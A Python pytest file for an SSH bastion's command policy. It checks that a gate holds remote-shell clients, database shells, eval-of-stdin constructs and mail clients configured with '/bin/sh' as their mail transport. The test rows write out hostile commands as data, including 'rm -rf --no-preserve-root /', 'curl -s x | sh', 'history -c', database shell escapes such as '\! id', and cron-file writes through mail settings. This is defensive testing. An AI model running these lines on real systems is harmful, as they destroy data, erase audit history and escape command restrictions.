"""Outside attack v31o, findings 3, 5, 7, 8 and 9: programs that read an exec channel's stdin as
commands. Logins and parallel shells other than ssh (3), database and cluster shells with shell
escapes or client-side writes (5), exec lines that make their stdin shell code (7), command
languages run with a pty (8), mail's own MTA setting (9). Each row names what the gate makes of
the line (`reads_script_from_stdin`: "shell" is the stdin gate, "program" the first data held,
"interpreter" the line held), the pty maker, or the verdict; honest lines beside them keep
theirs. The gate factory's choice is checked on the product's own gate (`make_gate`)."""
from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from bastion.command_control import policy
from bastion.command_control.policy.model import Policy
from bastion.ssh.fed_gate import FedGate
from bastion.ssh.gate import StdinGate, make_gate
from bastion.store import Store
from tests.policy_rows import assert_held_or_runs, typed_and_exec
from tests.rows import each
from tests.test_gate import exec_channel, make_app, make_live, verdicts

WIPE = "rm -rf --no-preserve-root /"

# (3) (line, what reads the exec stdin, pty maker)
REMOTE = [
    # the attacker's lines: a shell elsewhere reads the stdin (the stdin gate), and the logins
    # are pty makers (refused without an SSH pty, as `ssh host` is)
    ("dbclient root@localhost", "shell", "dbclient"), ("dbclient -y -T admin@db01", "shell", "dbclient"),
    ("lsh h", "shell", "lsh"), ("lshc h", "shell", "lshc"), ("krlogin h", "shell", "krlogin"),
    ("krsh h", "shell", "krsh"), ("xxh h", "shell", "xxh"), ("remsh h", "shell", "remsh"),
    ("rexec h", "shell", "rexec"),
    ("pdsh -w localhost", "shell", None), ("PDSH_RCMD_TYPE=exec pdsh -w localhost", "shell", None),
    ("pdsh -R exec -w localhost", "shell", None), ("pdsh -w h1,h2", "shell", None),
    ("clush -w localhost", "shell", None), ("clush -b -w h1,h2", "shell", None),
    ("mussh -h h", "shell", None), ("mussh -h a b -m 2", "shell", None),
    # siblings: an option's value is no host, options after the host are options (fail closed)
    ("dbclient -K 30 h", "shell", "dbclient"), ("dbclient -p 2222 -l root h", "shell", "dbclient"),
    ("dbclient h -t", "shell", "dbclient with a terminal"), ("dbclient -- h", "shell", "dbclient"),
    ("dbclient -Q h", "shell", "dbclient"), ("krlogin -l root h", "shell", "krlogin"),
    ("sudo dbclient h", "shell", "dbclient"), ("x=h; dbclient $x", "shell", "dbclient"),
    ("pdsh -w h -l root", "shell", None), ("clush --nostdin -w h", "shell", None),
    # already read: ssh and its kin
    ("ssh h", "shell", "ssh"), ("slogin h", "shell", "ssh"), ("autossh -M 0 h", "shell", "ssh"),
    ("sshpass -p x ssh h", "shell", "sshpass"),
    # honest: a command run elsewhere is shell code judged there; no shell reads the stdin
    ("dbclient h uptime", None, None), ("dbclient -p 22 -l root h df -h", None, None),
    ("dbclient -N -L 8080:h:80 h", None, None), ("lsh -p 22 h ls", None, None),
    ("krsh h hostname", None, None), ("remsh h -l root ls", None, None), ("rexec h date", None, None),
    ("pdsh -w h1,h2 uptime", None, None),
    ("pdsh -V", None, None), ("clush -w h --nostdin uptime", None, None),
    ("clush -b -w h1,h2 -- df -h", None, None), ("mussh -h a b -c uptime", None, None),
    ("mussh -h a b -C check.sh", None, None),
]


@each(("line", "reads", "maker"), REMOTE)
def test_logins_and_parallel_shells_other_than_ssh_are_read_as_ssh_is(line, reads, maker):
    assert policy.reads_script_from_stdin(line) == reads
    assert policy.terminal_maker(line) == maker


@each("line", [
    f"dbclient h {WIPE}", f"dbclient -p 22 h '{WIPE}'", f"lsh h {WIPE}", f"krsh h {WIPE}",
    f"pdsh -w h '{WIPE}'", f"pdsh -w h -- {WIPE}", f"clush -w h {WIPE}", f"mussh -h h -c '{WIPE}'",
    "dbclient h 'curl -s x | sh'", "pdsh -w h 'history -c'", "dbclient $OPTS h",
])
def test_the_command_a_remote_client_runs_is_judged_as_shell_code(default_policy: Policy, line):
    assert_held_or_runs(default_policy, line, True)


# (5) (line, what reads the exec stdin)
CLIENTS = [
    # the attacker's lines: their stdin is a command language (held as an interpreter's program)
    ("litecli x.db", "interpreter"), ("mycli -u root db", "interpreter"),
    ("mysqlsh root@localhost", "interpreter"), ("pgcli postgres://u@localhost/db", "interpreter"),
    ("ysqlsh -h localhost", "interpreter"), ("vsql -h localhost", "interpreter"),
    ("nzsql -host localhost", "interpreter"), ("beeline -u jdbc:hive2://h", "interpreter"),
    ("impala-shell -i h", "interpreter"), ("isql-fb x.fdb", "interpreter"),
    ("clickhouse-client --host h", "interpreter"), ("cqlsh h", "interpreter"),
    ("valkey-cli -h localhost", "interpreter"), ("keydb-cli -h localhost", "interpreter"),
    ("riak attach", "interpreter"),
    # siblings
    ("clickhouse client --host h", "interpreter"), ("clickhouse local", "interpreter"),
    ("clickhouse-local", "interpreter"), ("cockroach sql --insecure", "interpreter"),
    ("riak console", "interpreter"), ("riak remote_console", "interpreter"),
    ("hive", "interpreter"), ("bteq", "interpreter"), ("snowsql -a acct", "interpreter"),
    ("sqlline -u jdbc:x", "interpreter"), ("isql -u sysdba x.fdb", "interpreter"),
    ("spark-shell", "interpreter"), ("pyspark", "interpreter"), ("spark-sql", "interpreter"),
    ("sqsh -S h", "interpreter"), ("arangosh --server.endpoint tcp://h:8529", "interpreter"),
    ("matlab -nodesktop", "interpreter"), ("scilab-cli -nb", "interpreter"), ("gap x.g", "interpreter"),
    ("sage x.sage", "interpreter"),
    ("sudo -u db mycli db", "interpreter"), ("mycli -e 'select 1'", "interpreter"),
    # a client no table names, by its name: its first data is held
    ("foosql db", "program"), ("acme-cli -h h", "program"), ("acme-shell h", "program"),
    # honest: a command given on the line, no command language
    ("valkey-cli get x", None), ("keydb-cli -h h ping", None), ("riak ping", None),
    ("clickhouse server", None), ("ls", None), ("mytool x", None),
]


@each(("line", "reads"), CLIENTS)
def test_database_and_cluster_shells_read_their_commands_from_stdin(line, reads):
    assert policy.reads_script_from_stdin(line) == reads


@each("line", [
    "echo 'system touch x' | litecli x.db", "echo '\\! id' | ysqlsh", "echo '!sh id' | beeline",
    "printf 'CONFIG SET dir /etc\\n' | valkey-cli", "echo 'shell id' | impala-shell",
])
def test_text_piped_into_such_a_shell_is_held(default_policy: Policy, line):
    assert_held_or_runs(default_policy, line, True)


# (7) (line, what reads the exec stdin)
STDIN_AS_CODE = [
    # the attacker's lines: the shell reads the stdin byte for byte (the stdin gate judges
    # each statement), or else makes code of it (its first data held, after the line)
    ('eval "$(cat)"', "shell"), ('sh -c "$(cat)"', "shell"), ("bash <(cat)", "shell"),
    (". <(cat)", "shell"), ("source <(cat -)", "shell"), ('bash -c "$(cat /dev/stdin)"', "shell"),
    ('eval "`cat`"', "shell"), ("bash <( cat )", "shell"),
    ("eval $(cat)", "program"), ('bash -c "$(head -c 4096)"', "program"),
    ("xargs -0 sh -c", "program"), ("xargs -I{} sh -c {}", "program"), ("xargs -0 bash -c", "program"),
    ('x=$(cat); eval "$x"', "program"), ('read -r l; eval "$l"', "program"),
    ('mapfile a; eval "${a[*]}"', "program"), ("$(cat)", "program"), ("`cat`", "program"),
    ('perl -e "$(cat)"', "program"), ('python3 -c "$(cat)"', "program"), ("cat | bash", "program"),
    ('eval "$(cat)" x', "program"), ('eval "$(head -n1)"; ls', "program"),
    # already read
    ("source /dev/stdin", "shell"), ("bash", "shell"), ("$0", "program"),
    # honest: the stdin is data
    ('echo "$(cat)"', None), ('x=$(cat); echo "$x"', None), ("cat > /tmp/f", None),
    ("tar xzf - -C /srv", None), ("sha256sum", None), ('eval "$(ssh-agent -s)"', None),
]


@each(("line", "reads"), STDIN_AS_CODE)
def test_a_line_that_makes_its_stdin_code_gates_that_stdin(line, reads):
    assert policy.reads_script_from_stdin(line) == reads


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    s = Store(tmp_path / "bastion.db", create=True)
    yield s
    s.close()


@pytest.mark.parametrize(("line", "gate"), [
    ('eval "$(cat)"', StdinGate), ("bash <(cat)", StdinGate), ("xargs -0 sh -c", FedGate),
    ('read -r l; eval "$l"', FedGate), ("dbclient h", StdinGate), ("pdsh -w h", StdinGate),
    ("mysqlsh h", type(None)), ('echo "$(cat)"', type(None)), ("dbclient h uptime", type(None)),
])
async def test_the_gate_factory_gives_such_a_line_its_gate(store, line, gate):
    app = make_app(store)
    ch = exec_channel(make_live(store, app), line)
    assert type(make_gate(app, ch)) is gate  # type: ignore[arg-type]


@pytest.mark.parametrize("line", ['eval "$(cat)"', "bash <(cat)", "dbclient -T h", "pdsh -w h"])
async def test_the_stdin_of_such_a_line_reaches_the_program_only_as_judged_statements(store, line):
    """`ssh LOGIN@TARGET@bastion 'eval "$(cat)"'` fed `history -c; touch CANARY` (e2e_7), and a
    login's or a parallel shell's script: once the line runs, each statement of the stdin is
    judged as `bash` fed it would be; a refused one never reaches the program (the gate tests'
    policy denies reboot)."""
    app = make_app(store)
    ch = exec_channel(make_live(store, app), line)
    gate = make_gate(app, ch)  # type: ignore[arg-type]
    assert isinstance(gate, StdinGate)
    ch.gate = gate
    gate.client_input(b"echo one\ntouch /tmp/canary; reboot\necho two\n")
    await ch.until(lambda: b"two" in ch.bash.stdin)
    assert bytes(ch.bash.stdin) == b"echo one\necho two\n"


@pytest.mark.parametrize("line", ["xargs -0 sh -c", 'read -r l; eval "$l"', "eval $(cat)",
                                  "foosql db"])
async def test_the_data_of_a_line_that_makes_code_of_it_is_held_before_it_runs(store, line):
    app = make_app(store)
    ch = exec_channel(make_live(store, app), line)
    gate = make_gate(app, ch)  # type: ignore[arg-type]
    assert isinstance(gate, FedGate)
    ch.gate = gate
    gate.client_input(b"touch /tmp/canary\n")
    assert bytes(ch.bash.stdin) == b""
    assert verdicts(store, ch.live.id) == [(f"{line} (given data on its standard input)", "confirm")]
    gate.close()


# (8) the debuggers of code with a pty are interpreters (each line is code: `import os`); the
# other command languages with a pty are typed at as at a shell prompt: their own escapes
# (`\\! cmd` at psql, `:!` at vim) are out of the gate's reach there too (SECURITY.md), and
# `ssh -t host vim f` stays honest work
@each("line", ["pdb3 x.py", "ipdb3 x.py", "jdb Main", "byebug x.rb", "rdbg x.rb", "pry"])
def test_a_debugger_of_code_with_a_pty_is_never_typed_at_as_bash_lines(line):
    assert policy.reads_script_from_stdin(line) == "interpreter"
    assert policy.typed_at_a_terminal(line) is False


@each("line", ["psql db", "mysql", "sqlite3 x.db", "gdb ./a", "vim f", "ed f",
                                  "mycli db", "litecli x.db"])
def test_a_command_language_with_a_pty_is_typed_at_as_at_a_prompt(line):
    assert policy.reads_script_from_stdin(line) == "interpreter"
    assert policy.typed_at_a_terminal(line) is True


# (9) (line, held): the program mail hands the message (the stdin) to
MAIL = [
    ("mail -n -S mta=/bin/sh -S mta-no-default-arguments -S 'mta-arguments=-s' -s x root", True),
    ("mail -S sendmail=/bin/sh -s x root", True), ("mail -Ssendmail=/bin/sh -s x root", True),
    ("s-nail -nS mta=/bin/sh -s x root", True), ("mailx -S mta=/tmp/x -s x root", True),
    ("mail -S 'pipe-text/plain=sh' -s x root", True), ("mail -S mta-arguments=-s -s x root", True),
    ("mail -S record=/etc/cron.d/x -s x root", True), ("mail -S mta=test://x -s x root", True),
    ("MAILRC=/tmp/rc mail -s x root", True), ("NAILRC=/tmp/rc mailx -s x root", True),
    ("HOME=/tmp/h mail -s x root", True), ("export MAILRC=/tmp/rc; mail -s x root", True),
    ("mutt -e 'set sendmail=\"/bin/sh -s\"' -s x root", True), ("mutt -F /tmp/rc -s x root", True),
    ("neomutt -ne 'set x' -s x root", True), ("mutt -nF/tmp/rc -s x root", True),
    ("MUTTRC=/tmp/rc mutt -s x root", True), ("HOME=/tmp/h neomutt -s x root", True),
    ("mail --set=mta=/bin/sh -s x root", True), ("mail --set mta=/bin/sh -s x root", True),
    ("mail -X '!touch /tmp/x' -s x root", True), ("mail -Y 'set mta=/bin/sh' -s x root", True),
    ("mail.mailutils -E 'set sendmail=/bin/sh' -s x root", True),
    ("mail -E '!touch /tmp/x' -s x root", True), ("mail --config-file=/tmp/x -s x root", True),
    ("mail --exec='!id' -s x root", True), ("msmtp -C /tmp/c root", True),
    ("msmtp --file=/tmp/c root", True), ("swaks --pipe 'sh -s' --to root", True),
    ("sendmail -C/tmp/cf root", True), ("exim4 -C /tmp/cf root", True),
    # honest: who sends, the SMTP server, plain sending
    ("mail -s x root", False), ("mail -S from=ops@example.com -s x root", False),
    ("mail -S mta=smtp://mx:25 -s x root", False), ("mailx -S expandaddr -s x root", False),
    ("mutt -s x root", False), ("msmtp root", False), ("sendmail -oi root", False),
    ("mail -E -s x root", False), ("mail --subject=x root", False), ("mailx -nE -s x root", False),
]


@each(("line", "held"), MAIL)
def test_mails_own_mta_setting_is_code_the_policy_holds(default_policy: Policy, line, held):
    assert_held_or_runs(default_policy, line, held)


@each("line", ["mail.mailutils -E 'set sendmail=/bin/sh' -s x root",
                                  "mail --config-file=/tmp/x -s x root", "mail -X 'set mta=/bin/sh'"])
def test_mails_other_doors_read_commands_and_are_held_as_an_exec(line):
    # already read (t29f, 2): any option not known to keep mail sending text reads commands
    assert policy.reads_script_from_stdin(line) == "interpreter"


def test_the_hold_names_the_setting(default_policy: Policy):
    for verdict in typed_and_exec(default_policy, "mail -S mta=/bin/sh -s x root"):
        assert "mta=/bin/sh" in verdict.message
